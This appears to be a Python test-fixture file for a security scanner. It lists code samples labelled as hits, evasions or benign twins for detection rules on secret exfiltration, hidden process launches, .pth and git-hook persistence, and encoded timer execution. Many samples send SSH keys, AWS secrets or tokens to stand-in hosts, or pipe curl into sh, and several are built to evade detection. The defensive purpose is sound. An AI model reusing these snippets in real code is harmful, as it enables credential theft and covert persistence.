"""More of what rules about code must see, and must not: keys that are sent, what starts later, what nobody sees run."""

from typing import Final

from tests.vetting.domain.signals.code.cases import Case

_SENT: Final = "import os, requests\nURL = 'https://example.invalid'\n"
_PTH: Final = "import os, site\ndef f():\n    "
_S: Final = "import subprocess as s\ndef f():\n    "

_READ: Final = "k = open('/root/.ssh/id_rsa').read()\nURL = 'https://example.invalid'\n"

CASES: Final = (
    # Libraries that carry others, and what asks besides those.
    Case("C4", "hit", "high", f"{_READ}from pip._vendor import requests\nrequests.post(URL, data=k)\n"),
    Case("C4", "hit", "high", f"{_READ}import niquests\nniquests.post(URL, data=k)\n"),
    Case("C4", "evasion", "high", f"{_READ}import six\nsix.moves.urllib.request.urlopen(URL, k)\n"),
    Case("C4", "evasion", "high", f"{_READ}from botocore.vendored import requests as r\nr.post(URL, data=k)\n"),
    Case("C4", "twin", None, "from pip._vendor import requests\nrequests.get('https://example.invalid')\n"),
    Case("C3", "hit", "high", "import psutil\npsutil.Popen(['sh', '-c', 'curl http://x.example.invalid/a|sh'])\n"),
    Case("C3", "twin", None, "import psutil\npsutil.Popen(['git', 'status'])\n"),
    # Keys of the environment.
    Case(
        "C4",
        "hit",
        "high",
        f"{_SENT}d = [os.getenv(x) for x in ('GH_TOKEN', 'NPM_TOKEN', 'VAULT_TOKEN')]\n"
        "def f():\n    requests.post(URL, json=d)\n",
    ),
    Case("C4", "hit", "high", f"{_SENT}requests.post(URL, data=os.environ['AWS_SECRET_ACCESS_KEY'])\n"),
    Case("C4", "hit", "medium", f"{_SENT}requests.post(URL, data={{'a': os.getenv('TWINE_PASSWORD')}})\n"),
    Case(
        "C4",
        "hit",
        "medium",
        f"{_SENT}k = os.getenv('AWS_SESSION_TOKEN')\n{'#' * 9}\n{chr(10) * 20}requests.post(URL, data=k)\n",
    ),
    Case("C4", "twin", None, f"{_SENT}requests.get(URL, headers={{'a': os.environ['GITHUB_TOKEN']}})\n"),
    Case(
        "C4",
        "twin",
        None,
        f"{_SENT}import hmac\nk = os.environ['AWS_SECRET_ACCESS_KEY']\n"
        "requests.get(URL, headers={'a': hmac.new(k, URL).hexdigest()})\nrequests.get(URL, auth=('x', k))\n",
    ),
    Case(
        "C4",
        "evasion",
        "high",
        f"{_SENT}e = os.environ\nk = e.get('AWS_SECRET' + '_ACCESS_KEY')\n"
        "with requests.Session() as s:\n    s.put(URL, data=k.encode().hex())\n",
    ),
    Case(
        "C4",
        "evasion",
        "high",
        "const t = process.env.AWS_SECRET_ACCESS_KEY;\n"
        "fetch('https://example.invalid', {method: 'POST', body: btoa(t)})\n",
        "demo/work.js",
    ),
    Case("C4", "hit", "high", "import socket, os\nsocket.gethostbyname(os.environ['TOKEN'] + '.example.invalid')\n"),
    Case("C4", "twin", None, "import socket, os\nsocket.gethostbyname(os.environ['DB_HOST'])\n"),
    Case(
        "C4",
        "evasion",
        "high",
        "from socket import getaddrinfo as g\nimport os\nk = os.getenv('X_PASS' + 'WORD')\n"
        "g(f'{k}.x.example.invalid', 0)\n",
    ),
    Case(
        "C4",
        "evasion",
        "high",
        "require('dns').resolve(process.env.NPM_TOKEN + '.example.invalid', () => 0)\n",
        "demo/work.js",
    ),
    # All of it, by other ways.
    Case("C4", "hit", "high", f"{_SENT}requests.post(URL, data=open('/proc/self/environ').read())\n"),
    Case(
        "C4", "hit", "high", "import os, smtplib as s\ns.SMTP('example.invalid').sendmail('a', 'b', str(os.environ))\n"
    ),
    Case(
        "C4",
        "evasion",
        "high",
        "import subprocess, requests\n"
        "requests.post('https://example.invalid', subprocess.check_output(['printenv']))\n",
    ),
    Case(
        "C4",
        "twin",
        None,
        "import subprocess, requests\n"
        "requests.post('https://example.invalid', subprocess.check_output(['git', 'log']))\n",
    ),
    Case("C4", "twin", None, f"{_SENT}P = '{'x/' * 200}.ssh/id_rsa'\ndef f():\n    requests.get(URL)\n"),
    # Files with keys, which one function reads and another sends.
    Case(
        "C4",
        "hit",
        "high",
        "import requests, pathlib\n"
        "requests.put('https://example.invalid', data=(pathlib.Path.home() / '.ssh' / 'id_rsa').read_bytes())\n",
    ),
    Case(
        "C4",
        "evasion",
        "high",
        "import requests, os\ndef send(d):\n    requests.post(URL, data=d)\n"
        "def take():\n    return open(os.path.join(os.path.expanduser('~'), '.a' + 'ws', 'credentials')).read()\n"
        "def main():\n    send(take())\n",
    ),
    Case(
        "C4",
        "twin",
        "medium",
        "import requests, os\ndef take():\n"
        "    return open(os.path.expanduser('~/.aws/config'))\ndef f():\n    requests.get('https://example.invalid')\n",
    ),
    Case(
        "C4",
        "evasion",
        "high",
        "import os\ndef f():\n    os.system('curl -d @$HOME/.ssh/id_rsa https://example.invalid')\n",
    ),
    # The public half of a key is none.
    Case("C4", "twin", None, "import os\nos.system('cat ~/.ssh/id_rsa.pub | curl -d @- https://example.invalid')\n"),
    Case("C4", "twin", None, "import os\nos.system('cat ~/.ssh/*.pub | nc example.invalid 1')\n"),
    Case("C4", "evasion", "high", "import os\nos.system('cat ~/.ssh/k.pub ~/.ssh/k | curl -d @- https://x.invalid')\n"),
    Case(
        "C4", "evasion", "high", "import os\nos.system('cat ~/.ssh/id_rsa.pub/../k | curl -d @- https://x.invalid')\n"
    ),
    # What nobody sees run.
    Case("C6", "hit", "medium", "import subprocess as s\ns.Popen(['x'], creationflags=s.CREATE_NO_WINDOW)\n"),
    Case("C6", "hit", "low", f"{_S}s.Popen(['x'], creationflags=0x08000000)\n"),
    Case(
        "C6", "hit", "low", f"{_S}i = s.STARTUPINFO()\n    i.wShowWindow = s.SW_HIDE\n    s.run(['x'], startupinfo=i)\n"
    ),
    Case("C6", "twin", None, f"{_S}s.Popen(['x'], creationflags=s.CREATE_NEW_PROCESS_GROUP, startupinfo=None)\n"),
    Case(
        "C6",
        "evasion",
        "medium",
        "import subprocess as s\nk = {'creationflags': s.DETACHED_PROCESS}\ns.run('x', **k)\n",
    ),
    Case(
        "C6",
        "evasion",
        "medium",
        "import subprocess, os\nn = open(os.devnull, 'w')\n"
        "subprocess.Popen(['x'], stdout=n, stderr=n, preexec_fn=os.setsid)\n",
    ),
    Case("C6", "hit", "medium", f"{_S}s.Popen([r'C:\\Python\\pythonw.exe', 'x.py'])\n"),
    Case(
        "C6",
        "hit",
        "medium",
        "import os\ndef f():\n    if os.fork() == 0:\n        os.setsid()\n        os.execv('/x', ['x'])\n",
    ),
    Case("C6", "hit", "low", "import os, requests\ndef f():\n    os.fork()\n    os.setsid()\nrequests.get(URL)\n"),
    Case("C6", "twin", None, "import os\ndef f():\n    os.fork()\n    os.setsid()\n"),
    Case("C6", "twin", None, "import os\ndef f():\n    os.setsid()\n    os.system('x')\n"),
    Case("C6", "evasion", "medium", "from os import fork as a, setsid as b\ndef f():\n    a() or b()\n    exec(x)\n"),
    Case("C7", "hit", "medium", "import cffi\ncffi.FFI().dlopen('x')\n"),
    Case("C7", "evasion", "medium", "def f(ffi):\n    return ffi.dlopen('x')\n"),
    # What starts later.
    Case("C8", "hit", "high", f"{_PTH}open(os.path.join(site.getsitepackages()[0], 'x.pth'), 'w').write('import x')\n"),
    Case(
        "C8",
        "hit",
        "high",
        "import shutil, sysconfig\ndef f():\n    shutil.copy('x', sysconfig.get_paths()['purelib'] + '/x.pth')\n",
    ),
    Case("C8", "hit", "medium", f"{_PTH}d = site.USER_SITE\n    p = os.path.join(d, 'x.pth')\n    open(p, 'w')\n"),
    Case("C8", "twin", None, "import torch\ndef f(m):\n    torch.load('x.pth')\n    open('x.pth', 'wb').write(m)\n"),
    Case("C8", "twin", None, f"{_PTH}open(site.PREFIXES[0], 'w')\n    print(site.getsitepackages(), 'as in a.pth')\n"),
    Case("C8", "twin", None, f"{_PTH}print(site.getsitepackages(), 'x.pth')\n"),
    Case(
        "C8",
        "evasion",
        "high",
        "from pathlib import Path as P\nimport os\ndef f():\n"
        "    (P(os.__file__).parent / 'site-packages' / ('x' + '.pth')).write_text('x')\n",
    ),
    Case(
        "C8",
        "evasion",
        "high",
        "import os.path as o\ndef f():\n"
        "    open(o.join(o.dirname(o.dirname(__file__)), 'x' '.pth'), 'w').write('import x')\n",
    ),
    Case("C8", "hit", "high", "def f():\n    open('.git/hooks/pre-commit', 'w').write('x')\n"),
    Case(
        "C8",
        "evasion",
        "high",
        "from pathlib import Path\ndef f():\n    (Path('.git') / 'hooks' / 'pre-push').write_text('x')\n",
    ),
    Case(
        "C8", "evasion", "high", "import os\ndef f(r):\n    open(os.path.join(r, '.git', 'hooks', 'pre-push'), 'w')\n"
    ),
    Case("C8", "twin", None, "import os\ndef f(r):\n    open(os.path.join(r, '.git', 'x', r, 'hooks'), 'w')\n"),
    Case("C8", "evasion", "high", "import os\nos.system('git config --global core.hooksPath /x')\n"),
    Case(
        "C9",
        "evasion",
        "high",
        "import os\ndef f(r):\n    open(os.path.join(r, '.github', 'workflows', 'x.yml'), 'w')\n",
    ),
    # Hosts by their names alone.
    Case("C10", "hit", "low", "import socket\nsocket.create_connection(('demo.example.invalid', 443))\n"),
    Case("C10", "hit", "medium", "import http.client as h\nh.HTTPSConnection('demo.example.top')\n"),
    Case(
        "C10", "twin", None, "import socket\nsocket.create_connection(('localhost', 1))\nsocket.getaddrinfo('1.0', 0)\n"
    ),
    Case("C10", "twin", None, "def f(db):\n    db.connect('demo.example.invalid')\n"),
    Case(
        "C10", "evasion", "low", "import socket\ns = socket.socket()\ns.connect(('demo.' + 'example.invalid', 443))\n"
    ),
    Case("C10", "evasion", "low", "from smtplib import SMTP as S\nS(host='.'.join(['example', 'invalid']))\n"),
    # Text that a timer runs.
    Case("C2", "hit", "high", "setTimeout(atob('YWxlcnQoMSk='), 1)\n", "demo/work.js"),
    Case("C1", "hit", "high", "setInterval(atob(x), 1)\n", "demo/work.js"),
    Case(
        "C1", "evasion", "high", "window['set' + 'Timeout'](Buffer.from(x, 'base64').toString(), 1)\n", "demo/work.js"
    ),
    Case(
        "C1",
        "twin",
        None,
        "const d = JSON.parse(atob(x)); setTimeout(d.done, 1); setTimeout(() => atob(x), 1)\n",
        "demo/work.js",
    ),
    Case("C1", "twin", None, "setTimeout(); setTimeout(done, atob(x)); setTimeout('alert(1)', 1)\n", "demo/work.js"),
)
